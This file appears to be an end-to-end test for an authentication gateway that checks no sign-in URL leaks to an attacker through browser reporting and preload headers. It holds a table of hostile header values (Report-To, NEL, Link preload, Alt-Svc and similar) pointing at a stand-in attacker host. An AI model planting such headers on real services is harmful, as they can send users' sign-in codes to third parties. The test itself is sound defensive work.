/**
 * A hostile service sends every response header that a registry or a browser knows, and a person then signs in with a
 * real Chromium: no URL of the gateway leaves the browser, with and without a sign-in host.
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  type BrowserContext,
  readyToSignIn,
  startBrowser,
  startEcho,
  startGateway,
  startSso,
  testStage,
  until,
} from '../harness/index.ts';
import { ssoSecret } from '../harness/sso.ts';

const origin = (host: string) => `https://${host}:8443`;
const ONE = 'wiki.example.com';
const [OTHER, AUTH] = ['dash.example.net', 'auth.example.org'];
/** A host of the attacker, and one that no gateway protects. */
const [EVIL, BAIT] = ['evil.example.com', 'bait.example.org'];

const policyOf = (host: string, signin = '') => `
version: 1
gateway:
  public_port: 8443
  tls: { cert_file: /run/tls/tls.crt, key_file: /run/tls/tls.key }
  session: { keys_file: /run/secrets/session.jwks }
  ${signin}
providers:
  sso:
    issuer: https://sso:8443
    ca_file: /run/provider-ca.pem
    client: { id: wiki, secret_file: /run/secrets/sso }
roles:
  staff: { group: staff }
services:
  wiki: { insecure_url: "http://wiki:8080" }
hosts:
  ${host}: { /*: { service: wiki, allow: [staff] }, /public/*: { service: wiki, allow: [anyone] } }
`;

const stage = await testStage('hostile-headers');
/** An echo service over TLS, under a name whose certificate browsers trust. */
const startTls = async (alias: string) => startEcho(stage, { alias, tls: await stage.ca.server(alias) });
const [evil, sso, browser] = await Promise.all([
  startTls(EVIL),
  startSso(stage, { origins: [origin(ONE), origin(AUTH)] }),
  // Reports leave after a tenth of a second, not after a minute. Nothing else differs from a usual Chromium.
  startBrowser(stage, { flags: ['--short-reporting-delay'] }),
  startEcho(stage, { alias: 'wiki' }),
  startTls(BAIT),
]);
const files = { '/run/secrets/sso': ssoSecret };
const gateways = await Promise.all([
  startGateway(stage, { policy: policyOf(ONE), files }),
  startGateway(stage, { alias: 'second', policy: policyOf(OTHER, `signin: { host: ${AUTH} }`), files }),
]);
afterAll(() => browser.close());

beforeAll(async () => {
  await readyToSignIn(stage, gateways[0], `${origin(ONE)}/`, sso.issuer);
  await readyToSignIn(stage, gateways[1], `${origin(OTHER)}/`, sso.issuer);
});

/** An endpoint of the attacker, which pages of all origins may use. */
const endpoint = (path: string): string => {
  const answers = ['Allow-Origin:*', 'Allow-Headers:*, content-type', 'Allow-Methods:*'].map(
    (line) => `echo-header=${encodeURIComponent(`Access-Control-${line}`)}`,
  );
  return `${origin(EVIL)}/${path}?${answers.join('&')}`;
};

const group = (url: string) =>
  JSON.stringify({ group: 'g', max_age: 86400, include_subdomains: true, endpoints: [{ url }] });
const LOGGED = JSON.stringify({
  report_to: 'g',
  max_age: 86400,
  include_subdomains: true,
  success_fraction: 1,
  failure_fraction: 1,
});

/** Values with which a header does what the attacker wants. Any other header gets the attacker's URL. */
const VALUES: Readonly<Record<string, string>> = {
  'Report-To': group(endpoint('report')),
  NEL: LOGGED,
  'Reporting-Endpoints': `g="${endpoint('document')}", default="${endpoint('document')}"`,
  'Expect-CT': `max-age=86400, report-uri="${endpoint('ct')}"`,
  Link: `<${origin(EVIL)}/link.js>; rel=preload; as=script, <${origin(EVIL)}/prefetch>; rel=prefetch`,
  'Cross-Origin-Opener-Policy': 'same-origin-allow-popups; report-to="g"',
  'Cross-Origin-Opener-Policy-Report-Only': 'same-origin; report-to="g"',
  'Cross-Origin-Embedder-Policy-Report-Only': 'require-corp; report-to="g"',
  'Speculation-Rules': `"${endpoint('rules')}"`,
  'Alt-Svc': `h2="${EVIL}:8443"; ma=86400`,
  'Accept-CH': 'Sec-CH-UA-Model',
  'Service-Worker-Allowed': '/',
  'Use-As-Dictionary': 'match="/*"',
  'Permissions-Policy': 'geolocation=();report-to=g',
};

/** They frame the response, or lead the browser away from the page. */
const UNSENT =
  /^(connection|content-(disposition|encoding|length|range|type)|keep-alive|location|refresh|trailer|transfer-encoding|upgrade)$/i;

/** Every name of the registries, from the tests' own list. */
const names = readFileSync(new URL('../unit/policy/fixtures/field-names.tsv', import.meta.url), 'utf8')
  .split('\n')
  .flatMap((line) => line.split('\t')[0] || [])
  .filter((name) => !UNSENT.test(name));

/** URLs of a hostile service that answers with some headers each, so that no URL is too long. */
function hostile(home: string): readonly string[] {
  const lines = names.map(
    (name) => `echo-header=${encodeURIComponent(`${name}:${VALUES[name] ?? `${origin(EVIL)}/other`}`)}`,
  );
  const pages = Math.ceil(lines.length / 15);
  return [...Array(pages).keys()].map((i) => `${home}/public/x?${lines.slice(i * 15, (i + 1) * 15).join('&')}`);
}

/** Everything that the attacker received, as one text. */
const received = async (): Promise<string> => JSON.stringify(await evil.requests());

/** Opens a page of a host that no gateway protects. Its report arrives after all reports from before. */
async function lastReport(person: BrowserContext): Promise<void> {
  const page = await person.newPage();
  const wishes = ['Report-To', 'NEL'].map((name) => `echo-header=${encodeURIComponent(`${name}:${VALUES[name]}`)}`);
  await page.goto(`${origin(BAIT)}/learn?${wishes.join('&')}`);
  await page.goto(`${origin(BAIT)}/last-of-all`);
  await until(async () => (await received()).includes('/last-of-all'), { what: 'the report of the other host' });
  await page.close();
}

describe.each([
  ['without a sign-in host', origin(ONE)],
  ['with a sign-in host', origin(OTHER)],
])('%s', (_, home) => {
  test('no URL of a sign-in reaches the attacker', async () => {
    await evil.clear();
    const person = await browser.person();
    const page = await person.newPage();
    for (const url of hostile(home)) expect((await page.goto(url))?.status()).toBe(200);
    await page.goto(`${home}/start`);
    await sso.signInAt(page, 'ada');
    await page.waitForURL(`${home}/start`);
    // The signed-in person's pages are hostile, too.
    for (const url of hostile(home)) expect((await page.goto(url))?.status()).toBe(200);
    await page.goto(`${home}/.meshgate/signout`);
    await lastReport(person);
    const text = await received();
    expect(text).not.toMatch(/\.meshgate|[?&](code|state|ticket)=/);
    expect(text).not.toContain(new URL(home).hostname);
    await person.close();
  });
});
